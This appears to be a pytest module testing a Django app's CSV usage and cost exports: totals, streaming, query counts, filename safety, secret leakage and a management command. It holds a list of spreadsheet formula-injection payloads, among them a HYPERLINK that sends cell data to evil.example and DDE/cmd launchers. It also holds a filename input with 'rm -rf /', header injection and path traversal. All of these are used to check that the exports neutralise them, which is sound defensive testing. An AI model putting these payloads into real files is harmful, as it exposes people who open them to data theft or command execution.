"""CSV exports (reports/spend/exports.py, the export views, manage.py export_usage): C1-C5,
provenance."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import tracemalloc
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection as db_connection
from django.db import transaction
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reports import crypto, formatting
from reports.metrics import FLAG_FIELDS, PRICED
from reports.models import Bucket, PriceBook, Report, ReportBucket
from reports.pages.report import report_buckets
from reports.spend import exports, pricing
from reports.spend.usage import rows_from_buckets
from tests.factories import (
    make_bucket_file,
    make_connection,
    make_daily_buckets,
    make_done_bucket,
    make_done_report,
    make_user,
    usage,
)
from tests.support import figures
from tests.support.world import World

JAN = datetime(2026, 1, 1, tzinfo=UTC)
FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=cmd|" /C calc"!A0',
    "+SUM(A1:A9)",
    "-2+3",
    "-",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=",
    "+",
    "@",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def download(client: Client, url: str) -> tuple[StreamingHttpResponse, list[dict[str, str]]]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.DictReader(io.StringIO(text, newline="")))


def csv_total(rows: list[dict[str, str]]) -> Decimal:
    return sum((Decimal(r["cost_total"]) for r in rows), Decimal(0))


def page_total(report: Report) -> Decimal:
    """The report page's total, computed the way the page computes it (reports/pages/report.py)."""
    rows = rows_from_buckets(report_buckets(report))
    return pricing.sum_costs(pricing.rows_costs(rows, pricing.price_book_for(report)))["total"]


# --- Contents and provenance ------------------------------------------------------------------


@pytest.mark.django_db
def test_report_csv_has_a_row_per_bucket_with_units_raw_values_cost_and_provenance() -> None:
    owner = make_user("alice")
    report = make_done_report(owner, [make_connection(owner, "Prod")])
    first = Bucket.objects.filter(report_buckets__report=report).order_by("period_start").first()
    archived = make_bucket_file(first, b'{"rows": [1, 2, 3]}')

    response, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="osai-usage-report-{report.pk}-2026-01-01-2026-04-01.csv"'
    )
    assert list(rows[0]) == exports.export_columns(team=False, with_cost=True, report=True)
    assert [r["period_start"] for r in rows] == [
        "2026-01-01T00:00:00Z",
        "2026-02-01T00:00:00Z",
        "2026-03-01T00:00:00Z",
    ]
    january = rows[0]
    assert january["period_end"] == "2026-02-01T00:00:00Z"
    assert january["preliminary"] == "false"
    assert january["connection"] == "Prod"
    # usage(seed=1): 7200 s of 8 GB training = 2 GPU-hours; 5e9 KB-min = 0.1104 GB-months.
    assert january["training_8gb_gpu_hours"] == "2"
    assert january["totalTrainingSeconds8GB"] == "7200"
    assert january["totalImagesKBMin"] == "5000000000"
    assert january["image_storage_gb_months"] == "0.110378972"
    assert january["existing_images"] == "1001"
    assert january["cost_training_8gb"] == "2.4000000000"  # 2 h x 1.20 (example book)
    assert january["currency"] == "EUR"
    assert january["price_book"] == "Example price book"
    assert january["price_book_versions"] == "2020-01-01T00:00:00Z"
    assert january["osai_report_id"] == str(first.osai_report_id)
    assert january["osai_creation_time"] == "2026-02-10T14:33:33.7629037Z"
    assert all(january[flag] == "true" for flag in FLAG_FIELDS)
    assert january["raw_json_sha256"] == archived.sha256
    assert archived.sha256 == hashlib.sha256(b'{"rows": [1, 2, 3]}').hexdigest()
    assert rows[1]["raw_json_sha256"] == ""
    cost_columns = [m.cost_header for m in PRICED]
    for row in rows:  # the total column is the sum of the category columns, exactly
        assert Decimal(row["cost_total"]) == sum(Decimal(row[c]) for c in cost_columns)
    assert "TOTAL" not in {r["period_start"] for r in rows}  # no total row: one row per bucket
    # Each bucket's report period (here its own month) and whether it is held (not here).
    assert [r["report_period_start"] for r in rows] == [r["period_start"] for r in rows]
    assert {r["held"] for r in rows} == {""}


@pytest.mark.django_db
def test_cost_columns_can_be_left_out() -> None:
    owner = make_user()
    report = make_done_report(owner)
    _, rows = download(
        client_for(owner), reverse("report_export_csv", args=[report.pk]) + "?cost=0"
    )
    assert list(rows[0]) == exports.export_columns(team=False, with_cost=False, report=True)
    assert not any(c.startswith("cost_") or c == "currency" for c in rows[0])


@pytest.mark.django_db
def test_unfinished_buckets_are_not_exported() -> None:
    owner = make_user()
    conn = make_connection(owner)
    report = make_done_report(owner, [conn], state=Report.State.PARTIAL)
    Bucket.objects.filter(report_buckets__report=report, period_start=JAN).update(
        state=Bucket.State.ERROR
    )
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
    assert [r["period_start"] for r in rows] == ["2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"]


def test_team_csv_has_member_and_connection_columns(world: World) -> None:
    team, report = world.team, world.team_report  # the admin's and the owner's connection
    response, rows = download(
        client_for(world.team_admin), reverse("team_report_export_csv", args=[team.pk, report.pk])
    )
    filename = f"osai-usage-team-{team.pk}-report-{report.pk}-2026-01-01-2026-04-01.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert list(rows[0]) == exports.export_columns(team=True, with_cost=True, report=True)
    assert [(r["member"], r["connection"]) for r in rows[:2]] == [
        ("admin", "Admin lab"),
        ("owner", "Main"),
    ]
    assert len(rows) == 6


# --- C2: the CSV total is the page total, numbers stay numbers ---------------------------------


@pytest.mark.django_db
def test_csv_total_equals_the_page_total_to_the_cent() -> None:
    owner = make_user()
    single = make_done_report(owner, [make_connection(owner)])
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[single.pk]))
    assert csv_total(rows) == page_total(single)  # one bucket per period: even to 10^-10
    # With several connections the page prices each period's summed usage and the CSV each
    # bucket: the two differ by at most one 10^-10 quantum per bucket, far below a cent.
    combined = make_done_report(owner, [make_connection(owner), make_connection(owner)])
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[combined.pk]))
    assert formatting.to_cents(csv_total(rows)) == formatting.to_cents(page_total(combined))
    assert abs(csv_total(rows) - page_total(combined)) <= len(rows) * pricing.COST_QUANTUM


raw_usage = st.floats(min_value=0, max_value=1e12, allow_nan=False, allow_infinity=False)


@pytest.mark.django_db
@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.tuples(raw_usage, raw_usage, raw_usage), min_size=1, max_size=6))
def test_csv_total_equals_page_total_for_any_usage(
    values: list[tuple[float, float, float]],
) -> None:
    with transaction.atomic():
        owner = make_user()
        conn = make_connection(owner)
        report = Report.objects.create(
            owner=owner,
            period_start=datetime(2025, 1, 1, tzinfo=UTC),
            period_end=datetime(2025, 1 + len(values), 1, tzinfo=UTC),
        )
        for i, (train, images, rental) in enumerate(values, start=1):
            bucket = make_done_bucket(
                conn, datetime(2025, i, 1, tzinfo=UTC), datetime(2025, i + 1, 1, tzinfo=UTC)
            )
            Bucket.objects.filter(pk=bucket.pk).update(
                training_seconds_16gb=train, images_kb_min=images, device_rental_seconds=rental
            )
            report.report_buckets.create(bucket=bucket)
        lines = list(
            exports.csv_lines(
                exports.export_rows(
                    Bucket.objects.filter(report_buckets__report=report),
                    team=False,
                    with_cost=True,
                    price_book=pricing.price_book_for(report),
                )
            )
        )
        rows = list(csv.DictReader(io.StringIO("".join(lines), newline="")))
        assert formatting.to_cents(csv_total(rows)) == formatting.to_cents(page_total(report))
        transaction.set_rollback(True)


@pytest.mark.django_db
def test_negative_amounts_stay_numbers() -> None:
    owner = make_user()
    report = make_done_report(owner, [make_connection(owner, "-credit")])
    Bucket.objects.filter(report_buckets__report=report).update(training_seconds_8gb=-3600.0)
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
    assert rows[0]["totalTrainingSeconds8GB"] == "-3600"
    assert rows[0]["training_8gb_gpu_hours"] == "-1"
    assert rows[0]["cost_training_8gb"] == "-1.2000000000"
    assert rows[0]["connection"] == "'-credit"  # text that starts with "-" is neutralised
    assert exports.cell(Decimal("-1.50")) == "-1.50"
    assert exports.cell(-3) == "-3"
    assert exports.cell(-2.5) == "-2.5"
    assert exports.cell(1.4956327299571348e18) == "1.4956327299571348e+18"


# --- C1 and C3: formulas neutralised, text round-trips ------------------------------------------


text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)


@pytest.mark.django_db
def test_formula_payloads_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    # Known payloads, through the real download.
    owner = make_user()
    conns = [make_connection(owner, label) for label in FORMULA_PAYLOADS]
    report = make_done_report(owner, conns, start=JAN, end=datetime(2026, 2, 1, tzinfo=UTC))
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
    labels = sorted(r["connection"] for r in rows)
    assert labels == sorted("'" + p for p in FORMULA_PAYLOADS)
    neutralised = sum(label.startswith("'") for label in labels)
    for row in rows:  # and no other cell of any row starts a formula
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), (column, value)

    # Generated payloads: any text after any formula character, cell by cell.
    generated = {"tried": 0, "neutralised": 0}

    @settings(max_examples=300, deadline=None)
    @given(st.sampled_from(exports.FORMULA_PREFIXES), text)
    def check(prefix: str, rest: str) -> None:
        value = exports.cell(prefix + rest)
        generated["tried"] += 1
        generated["neutralised"] += value == "'" + prefix + rest
        assert value == "'" + prefix + rest

    check()
    tried = len(FORMULA_PAYLOADS) + generated["tried"]
    total = neutralised + generated["neutralised"]
    figures.figure("C1 payloads tried", tried)
    figures.figure("C1 payloads neutralised", total)
    with capsys.disabled():
        print(f"\nC1: {total} payloads neutralised of {tried} tried")
    assert total == tried


def test_text_that_does_not_start_a_formula_is_left_alone() -> None:
    for value in ("Prod", "'quoted", " =spaced", "1-2", "a=b", "", "€5"):
        assert exports.cell(value) == value


@settings(max_examples=300)
@given(st.lists(st.lists(text, min_size=1, max_size=5), min_size=1, max_size=5))
def test_text_cells_survive_a_round_trip_through_csv_reader(table: list[list[str]]) -> None:
    cells = [[exports.cell(value) for value in row] for row in table]
    payload = "".join(exports.csv_lines(cells)).encode("utf-8")
    assert list(csv.reader(io.StringIO(payload.decode("utf-8"), newline=""))) == cells
    for original, row in zip(table, cells, strict=True):
        for value, written in zip(original, row, strict=True):
            assert written in (value, "'" + value)


@pytest.mark.django_db
def test_commas_quotes_newlines_and_non_ascii_survive_the_download() -> None:
    owner = make_user()
    label = 'Prod, "EU"\nzweite Zeile; Zürich 東京 🚀'
    report = make_done_report(owner, [make_connection(owner, label)])
    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
    assert {r["connection"] for r in rows} == {label}


# --- C4: streamed, O(1) queries -------------------------------------------------------------------


@pytest.mark.django_db
def test_export_query_count_does_not_grow_with_buckets(django_assert_num_queries: Any) -> None:
    owner = make_user()
    conn = make_connection(owner)
    small, big = (
        make_done_report(owner, [conn], granularity="day", start=start, end=end)
        for start, end in (
            (datetime(2025, 1, 1, tzinfo=UTC), datetime(2025, 1, 6, tzinfo=UTC)),  # 5 days
            (datetime(2025, 2, 1, tzinfo=UTC), datetime(2025, 8, 20, tzinfo=UTC)),  # 200 days
        )
    )
    assert (small.buckets.count(), big.buckets.count()) == (5, 200)
    client = client_for(owner)
    counts = []
    for report, n in ((small, 5), (big, 200)):
        with CaptureQueriesContext(db_connection) as queries:
            response = client.get(reverse("report_export_csv", args=[report.pk]))
            body = b"".join(response.streaming_content)
        assert body.count(b"\r\n") == n + 1
        counts.append(len(queries.captured_queries))
    assert counts[0] == counts[1]
    # The rows themselves: the price book, its versions, then one query for all buckets.
    report = Report.objects.get(pk=big.pk)
    with django_assert_num_queries(3):
        list(
            exports.export_rows(
                Bucket.objects.filter(report_buckets__report=report),
                team=False,
                with_cost=True,
                price_book=pricing.price_book_for(report),
            )
        )


def _bulk_report(owner: Any, days: int) -> Report:
    """A report with one finished daily bucket per day, written in bulk (fast for big N)."""
    conn = make_connection(owner)
    start = datetime(2020, 1, 1, tzinfo=UTC)
    report = Report.objects.create(
        owner=owner, period_start=start, period_end=start + timedelta(days=days), granularity="day"
    )
    buckets = make_daily_buckets(conn, start, days, **usage(1))
    ReportBucket.objects.bulk_create(ReportBucket(report=report, bucket=b) for b in buckets)
    return report


@pytest.mark.django_db
def test_export_memory_stays_flat_as_rows_grow() -> None:
    owner = make_user()
    peaks = []
    for days in (1000, 5000):  # both above one chunk (CHUNK_SIZE rows)
        report = _bulk_report(owner, days)
        lines = exports.csv_lines(
            exports.export_rows(
                Bucket.objects.filter(report_buckets__report=report),
                team=False,
                with_cost=True,
                price_book=pricing.price_book_for(report),
            )
        )
        tracemalloc.start()
        count = sum(1 for _ in lines)  # consumed line by line, as the response streams it
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert count == days + 1
    # Five times the rows, not five times the memory: only one chunk of rows is held at a time.
    assert peaks[1] < 1.5 * peaks[0], peaks
    figures.figure(
        "C4 export peak KiB (1000 / 5000 rows)", f"{peaks[0] // 1024} / {peaks[1] // 1024}"
    )


@pytest.mark.django_db
def test_export_streams_lazily() -> None:
    owner = make_user()
    report = make_done_report(owner)
    response = client_for(owner).get(reverse("report_export_csv", args=[report.pk]))
    assert response.streaming
    first = next(iter(response.streaming_content))
    assert first.startswith(b"period_start,period_end,preliminary,connection,")


# --- C5: filenames ------------------------------------------------------------------------------


@settings(max_examples=200)
@given(st.lists(st.one_of(text, st.integers()), min_size=1, max_size=4))
def test_filenames_are_ascii_slugs(parts: list[Any]) -> None:
    name = exports.safe_filename(*parts)
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*\.csv|export\.csv", name), name
    assert len(name) <= 154


def test_filename_drops_quotes_newlines_and_path_parts() -> None:
    name = exports.safe_filename('Zürich "team"; rm -rf /\r\nSet-Cookie: x', "../../etc", 7)
    assert name == "zurich-team-rm-rf-set-cookie-x-etc-7.csv"


# --- Secrets ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_no_token_jwt_or_signed_url_in_any_csv() -> None:
    owner = make_user()
    token = "osai-CANARY-token-0123456789-zz9"
    conn = make_connection(owner, "Canary", token=token)
    conn.jwt_encrypted = crypto.encrypt_secret("eyJhbGciOi.CANARY-JWT.sig")
    conn.save()
    report = make_done_report(owner, [conn])
    signed = "https://storage.example/r.json?Expires=1&Signature=CANARY-SIGNATURE"
    for bucket in Bucket.objects.filter(report_buckets__report=report):
        bucket.osai_response = {**(bucket.osai_response or {}), "path": signed}
        bucket.save()
    client = client_for(owner)
    texts = [
        b"".join(client.get(reverse("report_export_csv", args=[report.pk]) + q).streaming_content)
        for q in ("", "?cost=0")
    ]
    out = io.StringIO()
    call_command(
        "export_usage",
        user=owner.username,
        date_from="2026-01-01",
        date_to="2026-04-01",
        cost=True,
        stdout=out,
    )
    texts.append(out.getvalue().encode())
    secrets = [token, token[:-4], "CANARY", conn.token_encrypted, conn.jwt_encrypted, "Signature="]
    hits = sum(secret.encode() in body for body in texts for secret in secrets)
    figures.figure("CSV canary hits", hits)
    assert hits == 0


# --- manage.py export_usage -------------------------------------------------------------------


def run_export(**options: Any) -> tuple[list[dict[str, str]], str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_usage", stdout=out, stderr=err, **options)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))), err.getvalue()


def test_cli_exports_a_users_buckets_without_cost_by_default(world: World) -> None:
    rows, _ = run_export(
        user="owner", date_from="2026-01-01", date_to="2026-04-01", granularity="month"
    )
    assert list(rows[0]) == exports.export_columns(team=False, with_cost=False)
    assert [(r["connection"], r["period_start"]) for r in rows] == [
        ("Main", "2026-01-01T00:00:00Z"),
        ("Main", "2026-02-01T00:00:00Z"),
        ("Main", "2026-03-01T00:00:00Z"),
    ]


def test_cli_team_export_with_cost_matches_the_web_export(world: World) -> None:
    w = world
    rows, _ = run_export(team="Vision", date_from="2026-01-01", date_to="2026-04-01", cost=True)
    assert list(rows[0]) == exports.export_columns(team=True, with_cost=True)
    _, web = download(
        client_for(w.team_admin),
        reverse("team_report_export_csv", args=[w.team.pk, w.team_report.pk]),
    )
    # The web export of a report adds the report's own columns (its periods, held buckets).
    report_only = ("report_period_start", "report_period_end", "held")
    assert rows == [{k: v for k, v in row.items() if k not in report_only} for row in web]
    assert formatting.to_cents(csv_total(rows)) == formatting.to_cents(page_total(w.team_report))


def test_cli_connection_filter_and_price_book_option(world: World) -> None:
    rows, _ = run_export(
        user="admin",
        connection=["Admin lab"],
        date_from="2026-02-01",
        date_to="2026-03-01",
        cost=True,
        price_book="Example price book",
    )
    assert [r["connection"] for r in rows] == ["Admin lab"]
    with pytest.raises(CommandError, match="no connection"):
        run_export(user="admin", connection=["Nope"], date_from="2026-02-01", date_to="2026-03-01")
    with pytest.raises(CommandError, match="No price book"):
        run_export(
            user="admin",
            date_from="2026-02-01",
            date_to="2026-03-01",
            cost=True,
            price_book="Missing",
        )
    PriceBook.objects.update(is_default=False)
    with pytest.raises(CommandError, match="No default price book"):
        run_export(user="admin", date_from="2026-02-01", date_to="2026-03-01", cost=True)


def test_cli_reports_missing_buckets_and_exits_non_zero(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reports.pipeline import connections

    def no_osai(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("export_usage must not call OSAI")

    monkeypatch.setattr(connections, "osai_client_for", no_osai)
    out, err = io.StringIO(), io.StringIO()
    # September 2025 is missing for both connections, and Oct-Dec for the admin's (the
    # owner's personal report has them for "Main").
    with pytest.raises(CommandError, match="5 of 14 buckets are not finished"):
        call_command(
            "export_usage",
            team="Vision",
            date_from="2025-09-01",
            date_to="2026-04-01",
            stdout=out,
            stderr=err,
        )
    assert out.getvalue() == ""  # nothing half-written
    message = err.getvalue()
    assert "admin / Admin lab: 2025-12-01T00:00:00Z .. 2026-01-01T00:00:00Z" in message
    assert "owner / Main: 2025-09-01T00:00:00Z .. 2025-10-01T00:00:00Z" in message
    assert "owner / Main: 2025-10-01T00:00:00Z" not in message  # finished
    assert (
        "python manage.py generate_report --user admin --connection 'Admin lab' "
        "--from 2025-09-01 --to 2026-04-01 --granularity month"
    ) in message
    assert "--wait" in message


def test_cli_flags_select_buckets_of_exactly_those_categories(world: World) -> None:
    with pytest.raises(CommandError, match="not finished"):
        run_export(user="admin", date_from="2026-01-01", date_to="2026-02-01", flags="models")
    with pytest.raises(CommandError, match="Unknown flags"):
        run_export(user="admin", date_from="2026-01-01", date_to="2026-02-01", flags="gpus")


# --- C6: manage.py export_usage --preset, --group (held data and the spend ledger) ------------


def _held(connection: Any, start: datetime, end: datetime, seed: int) -> Bucket:
    """A held bucket (a closed day or month, as tracking keeps it), finished through
    bucket_done so the spend ledger writes its rows as the pipeline would."""
    from reports.pipeline.buckets import bucket_done

    bucket = make_done_bucket(connection, start, end, seed=seed)
    Bucket.objects.filter(pk=bucket.pk).update(tracked=True)
    bucket_done.send(sender=Bucket, bucket_id=bucket.pk)
    return bucket


def _months(start: datetime, count: int) -> list[tuple[datetime, datetime]]:
    from dateutil.relativedelta import relativedelta

    return [
        (start + relativedelta(months=i), start + relativedelta(months=i + 1)) for i in range(count)
    ]


def _reference(buckets: list[Bucket], book: Any) -> Decimal:
    """What held buckets cost, priced bucket by bucket as the pages' pricing does (not read
    from the ledger)."""
    from reports.metrics import PRICED_COLUMNS

    return sum(
        (
            pricing.period_costs(
                {c: getattr(b, c) for c in PRICED_COLUMNS}, b.period_start, b.period_end, book
            )["total"]
            for b in buckets
        ),
        Decimal(0),
    )


@pytest.fixture
def last_quarter(world: World, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Last quarter held for the team's two shared connections: "Main" (the owner's) as three
    held months, "Admin lab" (the admin's) as held days but for the 3rd to the 5th of its
    second month. OSAI must not be asked anything."""
    from reports.periods import preset_period
    from reports.pipeline import connections

    def no_osai(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("export_usage must not call OSAI")

    monkeypatch.setattr(connections, "osai_client_for", no_osai)
    from django.utils import timezone

    start, end = preset_period("last_quarter", timezone.now())
    months = _months(start, 3)
    main = [_held(world.connection, s, e, seed=i + 1) for i, (s, e) in enumerate(months)]
    gap = {months[1][0] + timedelta(days=d) for d in (2, 3, 4)}
    lab = [
        _held(world.admin_connection, day, day + timedelta(days=1), seed=(day.day % 5) + 1)
        for day in (start + timedelta(days=i) for i in range((end - start).days))
        if day not in gap
    ]
    return {"months": months, "main": main, "lab": lab, "gap": sorted(gap)}


def test_cli_last_quarter_by_month_per_member_from_held_data_only(
    world: World, last_quarter: dict[str, Any]
) -> None:
    """The issue's check: one row per member and month, each from the spend ledger's sums,
    equal to pricing each held bucket, to the cent; what is not held is said on stderr."""
    book = PriceBook.objects.get(is_default=True)
    rows, err = run_export(
        team="Vision", preset="last_quarter", granularity="month", group="member"
    )
    months = last_quarter["months"]
    assert [(r["period_start"], r["member"]) for r in rows] == [
        (formatting.utc_z(s), member) for s, _ in months for member in ("admin", "owner")
    ]
    assert list(rows[0])[:4] == ["period_start", "period_end", "preliminary", "member"]
    assert rows[0]["currency"] == "EUR" and rows[0]["price_book"] == book.name
    for (start, end), (admin_row, owner_row) in zip(
        months, zip(rows[::2], rows[1::2], strict=True), strict=True
    ):
        lab = [b for b in last_quarter["lab"] if start <= b.period_start < end]
        [main] = [b for b in last_quarter["main"] if b.period_start == start]
        assert Decimal(owner_row["cost_total"]) == _reference([main], book)
        assert Decimal(admin_row["cost_total"]) == _reference(lab, book)
        assert (owner_row["held_months"], owner_row["held_days"]) == ("1", "0")
        assert admin_row["held_days"] == str(len(lab))
        missing = len([d for d in last_quarter["gap"] if start <= d < end])
        assert admin_row["missing_days"] == str(missing)
        assert admin_row["complete"] == ("true" if missing == 0 else "false")
        # Usage adds up in display units (hours of 8 GB training).
        hours = sum(b.training_seconds_8gb for b in lab) / 3600
        assert Decimal(admin_row["training_8gb_gpu_hours"]) == pytest.approx(Decimal(hours))
    gap = last_quarter["gap"]
    assert f"admin / Admin lab: {gap[0]:%Y-%m-%d} .. {gap[-1]:%Y-%m-%d} (3 days)" in err, err
    assert "owner / Main" not in err
    # The quarter's total, and the team's: the same whatever the grouping.
    by_connection, _ = run_export(
        team="Vision", preset="last_quarter", granularity="total", group="connection"
    )
    assert [(r["member"], r["connection"]) for r in by_connection] == [
        ("admin", "Admin lab"),
        ("owner", "Main"),
    ]
    assert csv_total(by_connection) == csv_total(rows)
    assert csv_total(rows) == _reference(last_quarter["lab"] + last_quarter["main"], book)


def test_a_month_held_both_whole_and_by_its_days_counts_by_one_rule(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One rule (period_spend.month_that_counts) for the CLI and the team page: where last
    month is held as its month and as each of its days (OSAI's month can disagree with its
    days), the CLI's rows and a chart by month take the month; the team page's period by
    days takes the days."""
    from django.utils import timezone

    from reports.periods import preset_period
    from reports.pipeline import connections
    from reports.spend.period_spend import period_spend

    def no_osai(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("export_usage must not call OSAI")

    monkeypatch.setattr(connections, "osai_client_for", no_osai)
    now = timezone.now()
    start, end = preset_period("last_month", now)
    month = _held(world.connection, start, end, seed=1)
    days = [
        _held(world.connection, start + timedelta(days=i), start + timedelta(days=i + 1), seed=2)
        for i in range((end - start).days)
    ]
    book = PriceBook.objects.get(is_default=True)
    assert _reference([month], book) != _reference(days, book)

    rows, _ = run_export(user="owner", preset="last_month", granularity="month", group="member")
    [row] = rows
    assert (row["held_months"], row["held_days"], row["missing_days"]) == ("1", "0", "0")
    assert Decimal(row["cost_total"]) == _reference([month], book)

    ids = [world.connection.pk]
    by_days = period_spend(ids, book, start, end, now=now)
    by_month = period_spend(ids, book, start, end, now=now, by_month=True)
    assert by_days.total == _reference(days, book) and by_days.missing_days == 0
    assert by_month.bucket_ids() == [month.pk] and by_month.total == _reference([month], book)


def test_cli_group_uses_the_teams_price_book_and_masks_categories_left_out(
    world: World, last_quarter: dict[str, Any]
) -> None:
    from reports.models import PriceBookVersion, Team

    dear = PriceBook.objects.create(name="Dear", currency="USD")
    PriceBookVersion.objects.create(
        price_book=dear,
        effective_from=datetime(2020, 1, 1, tzinfo=UTC),
        training_8gb_per_hour=Decimal("10"),
        image_storage_per_gb_month=Decimal("1"),
    )
    Team.objects.filter(pk=world.team.pk).update(price_book=dear)
    rows, _ = run_export(team="Vision", preset="last_quarter", granularity="total", group="member")
    assert {(r["currency"], r["price_book"]) for r in rows} == {("USD", "Dear")}
    dear = PriceBook.objects.get(pk=dear.pk)
    everything = last_quarter["lab"] + last_quarter["main"]
    assert csv_total(rows) == _reference(everything, dear)
    # Only models (training, conversion, model storage): the datasets' usage and cost are 0,
    # the total is that of the categories asked for.
    trained, _ = run_export(
        team="Vision", preset="last_quarter", granularity="total", group="member", flags="models"
    )
    assert all(Decimal(r["image_storage_gb_months"]) == 0 for r in trained)
    assert all(Decimal(r["existing_images"]) == 0 for r in trained)
    assert all(Decimal(r["cost_image_storage"]) == 0 for r in trained)
    models = ("training_8gb", "training_16gb", "conversion_8gb", "conversion_16gb")
    assert csv_total(trained) == sum(
        (Decimal(r[f"cost_{m}"]) for r in rows for m in (*models, "model_storage")), Decimal(0)
    )
    assert 0 < csv_total(trained) < csv_total(rows)


def test_cli_preset_or_from_to_never_both(world: World) -> None:
    with pytest.raises(CommandError, match="not both"):
        run_export(user="owner", preset="last_month", date_from="2026-01-01")
    with pytest.raises(CommandError, match="Give --from and --to"):
        run_export(user="owner", date_from="2026-01-01")
    with pytest.raises(CommandError, match="invalid choice"):
        call_command("export_usage", "--user", "owner", "--preset", "last_century")
    with pytest.raises(CommandError, match="invalid choice"):
        call_command("export_usage", "--user", "owner", "--preset", "last_month", "--group", "x")


def test_cli_preset_without_group_exports_the_buckets_of_that_period(world: World) -> None:
    """--preset last_month without --group: the bucket rows of that month, as --from/--to."""
    from django.utils import timezone

    from reports.periods import preset_period

    start, end = preset_period("last_month", timezone.now())
    make_done_bucket(world.connection, start, end, seed=3)
    rows, _ = run_export(user="owner", preset="last_month", granularity="month")
    same, _ = run_export(
        user="owner",
        date_from=f"{start:%Y-%m-%d}",
        date_to=f"{end:%Y-%m-%d}",
        granularity="month",
    )
    assert rows == same and [r["period_start"] for r in rows] == [formatting.utc_z(start)]
